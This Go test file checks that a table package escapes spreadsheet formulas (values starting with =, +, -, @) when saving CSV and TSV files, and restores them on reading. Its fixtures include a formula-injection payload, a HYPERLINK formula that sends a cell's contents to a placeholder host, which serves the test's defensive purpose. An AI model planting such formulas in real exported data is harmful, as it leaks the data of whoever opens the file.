package table

import (
	"bytes"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/go-siamese/lab/data"
)

// TestFormulas: what a spreadsheet would run is counted, escaped, and read back as it was by the same option.
func TestFormulas(t *testing.T) {
	f := &data.Frame{X: []float32{1.5, 2, 3.5, 4, 5.5, 6}, Columns: []string{"=A1", "b"},
		Blocks: []data.Block{{Name: "features", End: 2}},
		IDs:    []string{`=HYPERLINK("http://x?"&A1)`, "-5", "'+1+1"},
		Labels: []string{"@SUM(1)", "+4.5e-3", "plain"}, Domains: []string{"-x", "'quoted'", "＝1"}}
	if got := Formulas(f); got != 5 {
		t.Errorf("%d formulas, want 5", got)
	}
	for _, ending := range []string{".csv", ".tsv.gz"} {
		path := filepath.Join(t.TempDir(), "f"+ending)
		if err := Save(path, EscapeFormulas(f)); err != nil {
			t.Fatal(err)
		}
		got, _, err := Open(t.Context(), path, Options{EscapedFormulas: true})
		if err != nil {
			t.Fatal(err)
		}
		if diff := cmp.Diff(f, got); diff != "" {
			t.Error(diff)
		}
		raw, _, err := Open(t.Context(), path, Options{})
		if err != nil || raw.IDs[0] != "'"+f.IDs[0] || raw.IDs[1] != "-5" || raw.IDs[2] != "''+1+1" ||
			Formulas(raw) != 0 {
			t.Errorf("%q %v", raw.IDs, err)
		}
	}
	path := filepath.Join(t.TempDir(), "plain.csv")
	if err := os.WriteFile(path, []byte("id,f\n=1,1\n'a,2\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	got, _, err := Open(t.Context(), path, Options{EscapedFormulas: true})
	if err != nil || strings.Join(got.IDs, " ") != "=1 'a" {
		t.Errorf("%v %v", got, err)
	}
	var same bytes.Buffer
	if err := WriteCSV(&same, f); err != nil || !strings.Contains(same.String(), "\n-5,+4.5e-3,") {
		t.Errorf("%v %s", err, same.String())
	}
}
